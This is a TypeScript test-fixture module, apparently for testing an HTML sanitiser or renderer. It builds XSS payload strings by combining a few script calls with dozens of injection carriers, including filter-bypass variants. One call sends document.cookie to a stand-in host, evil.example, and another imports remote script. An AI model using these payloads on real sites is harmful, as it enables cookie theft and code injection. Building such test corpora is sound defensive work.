/** Hostile strings of our own making: every carrier with every way to run or fetch. `OVERDESK_HOSTILE_FILE` adds lines of JSON with a `text`. */
import { readFileSync } from 'node:fs'

const CALLS = [
  "overdeskExecuted('x')",
  'alert(1)',
  "fetch('https://evil.example/'+document.cookie)",
  "import('https://evil.example/x.js')",
  'top.pwned=1',
  '(()=>{window.hacked=1})()',
]

const CARRIERS: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<IMG SRC=x ONERROR=${call}>`,
  (call) => `<svg onload="${call}">`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror="${call}">`,
  (call) => `<body onload="${call}">`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}">press</a>`,
  (call) => `<a href="java&#x0A;script:${call}">press</a>`,
  (call) => `<form action="javascript:${call}"><button>press</button></form>`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<details open ontoggle="${call}">`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<audio src=x onerror="${call}">`,
  (call) => `<link rel=stylesheet href="https://evil.example/x.css"><style>@import 'https://evil.example/y.css'</style>${call}`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="https://evil.example/"><img src="pixel.png">${call}`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><img src=x onerror="${call}">`,
  (call) => `\`><svg onload="${call}">`,
  (call) => `]]><script>${call}</script>`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<div style="background:url(https://evil.example/p.png)">${call}</div>`,
  (call) => `<div style="width:expression(${call})">x</div>`,
  (call) => `<marquee onstart="${call}">x</marquee>`,
  (call) => `<x onclick="${call}" tabindex=1 id=x>press</x>`,
  (call) => `{{constructor.constructor("${call}")()}}`,
  (call) => `\${${call}}`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `[press](javascript:${call})`,
  (call) => `![x](https://evil.example/${encodeURIComponent(call)}.png)`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `\u003cscript\u003e${call}\u003c/script\u003e`,
  (call) => `<scr\u0000ipt>${call}</scr\u0000ipt>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<img src="https://evil.example/p.png" alt="${call}">`,
  (call) => `<picture><source srcset="https://evil.example/p.png"><img alt="${call}"></picture>`,
  (call) => `<svg><use href="https://evil.example/x.svg#a"/></svg>${call}`,
  (call) => `<textarea autofocus onfocus="${call}"></textarea>`,
  (call) => `<select autofocus onfocus="${call}"></select>`,
  (call) => `<button popovertarget=x onbeforetoggle="${call}">press</button>`,
  (call) => `<object type="text/x-scriptlet" data="https://evil.example/${call}"></object>`,
  (call) => `<isindex type=image src=1 onerror="${call}">`,
  (call) => `<style>*{x:expression(${call})}</style>`,
  (call) => `<xmp><img title="</xmp><img src=x onerror=${call}>">`,
]

/** The first `limit` strings, spread over all carriers; 0 gives all. */
export function hostileStrings(limit: number): string[] {
  const own = CALLS.flatMap((call) => CARRIERS.map((carrier) => carrier(call)))
  const file = process.env.OVERDESK_HOSTILE_FILE
  const added = file
    ? readFileSync(file, 'utf8')
        .split('\n')
        .filter(Boolean)
        .map((line) => String((JSON.parse(line) as { text: unknown }).text).slice(0, 2_000))
    : []
  const all = [...own, ...added]
  if (limit === 0 || limit >= all.length) return all
  const step = all.length / limit
  return Array.from({ length: limit }, (_, at) => all[Math.floor(at * step)] as string)
}
